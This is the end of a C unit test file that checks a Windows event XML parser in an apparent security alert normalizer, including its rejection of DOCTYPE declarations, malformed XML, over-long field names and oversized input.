               EXPECT("kind=auth", "severity=50", "auth.result=locked", "user.name=zoe",
                      "user.domain=CORP", "host.name=dc1", "extra.windows.caller_computer=WS-ZOE"));
    json_decref(out);
}

static void t_winevent_xml_refused(void **s)
{
    (void)s;
    static const struct {
        const char *xml;
        const char *msg;
    } BAD[] = {
        {"<?xml version=\"1.0\"?><!DOCTYPE Event [<!ENTITY a \"aaaa\">]><Event><System>"
         "<EventID>4624</EventID></System></Event>",
         "byte 21: DOCTYPE is not allowed"},
        {"<Event><System><EventID>4624</EventID></System>", "windows: XML line 1"},
        {"- <Event xmlns=\"x\">\n- <System>", "windows: XML line 1 column 1"},
        {"<Events><Event/></Events>", "root element must be <Event>, not <Events>"},
        {"<Event><System><Computer>x</Computer></System></Event>", "System/EventID: required"},
        {"<Event><System><EventID>70000</EventID></System></Event>", "System/EventID: required"},
        {"", "windows: XML line"},
    };
    for (size_t i = 0; i < sizeof(BAD) / sizeof(BAD[0]); i++) {
        json_t *a = (json_t *)1;
        struct rp_error err;
        err.msg[0] = '\0';
        rp_status st = winevent_xml_parse_alert(BAD[i].xml, strlen(BAD[i].xml), &a, &err);
        if (st != RP_E_INVALID || strstr(err.msg, BAD[i].msg) == NULL)
            fail_msg("XML %zu: status %d, message \"%s\", expected \"%s\"", i, st, err.msg,
                     BAD[i].msg);
        assert_null(a);
    }
    /* a field name over the limit is refused, never cut (a cut could split a
     * character, and two long names could become one key); at the limit, kept */
    char name[RP_WINEVENT_NAME_MAX + 2], xml[512];
    for (size_t len = RP_WINEVENT_NAME_MAX; len <= RP_WINEVENT_NAME_MAX + 1; len++) {
        memset(name, 'N', len);
        name[len] = '\0';
        rp_fmt(xml, sizeof(xml),
               "<Event><System><EventID>4624</EventID></System><EventData>"
               "<Data Name='Ok'>1</Data><Data Name='%s'>2</Data></EventData></Event>",
               name);
        json_t *a = NULL;
        struct rp_error err;
        err.msg[0] = '\0';
        rp_status st = winevent_xml_parse_alert(xml, strlen(xml), &a, &err);
        if (len == RP_WINEVENT_NAME_MAX) {
            if (st != RP_OK)
                fail_msg("a name at the limit refused: %s", err.msg);
            json_decref(a);
        } else {
            assert_int_equal(st, RP_E_INVALID);
            assert_null(a);
            assert_non_null(strstr(err.msg, "field 2 has a name of 128 bytes (limit 127)"));
        }
    }
    /* over the size limit: refused before parsing */
    size_t n = RP_WINEVENT_XML_MAX + 1;
    char *big = malloc(n);
    assert_non_null(big);
    memset(big, ' ', n);
    json_t *a = NULL;
    struct rp_error err;
    assert_int_equal(winevent_xml_parse_alert(big, n, &a, &err), RP_E_INVALID);
    assert_non_null(strstr(err.msg, "limit"));
    free(big);
}

int main(void)
{
    const struct CMUnitTest t[] = {
        cmocka_unit_test(t_crowdstrike),   cmocka_unit_test(t_carbonblack),
        cmocka_unit_test(t_cylance),       cmocka_unit_test(t_defender),
        cmocka_unit_test(t_msgraph),       cmocka_unit_test(t_splunk),
        cmocka_unit_test(t_elastic),       cmocka_unit_test(t_okta),
        cmocka_unit_test(t_azuread),       cmocka_unit_test(t_windows_json),
        cmocka_unit_test(t_no_vendor),     cmocka_unit_test(t_bad_values_dropped),
        cmocka_unit_test(t_names_cleaned), cmocka_unit_test(t_paths_and_lone_domain),
        cmocka_unit_test(t_normalize_as),  cmocka_unit_test(t_get_paths),
        cmocka_unit_test(t_times),         cmocka_unit_test(t_placeholders_ints),
        cmocka_unit_test(t_winevent_xml),  cmocka_unit_test(t_winevent_xml_refused),
    };
    return cmocka_run_group_tests(t, NULL, NULL);
}
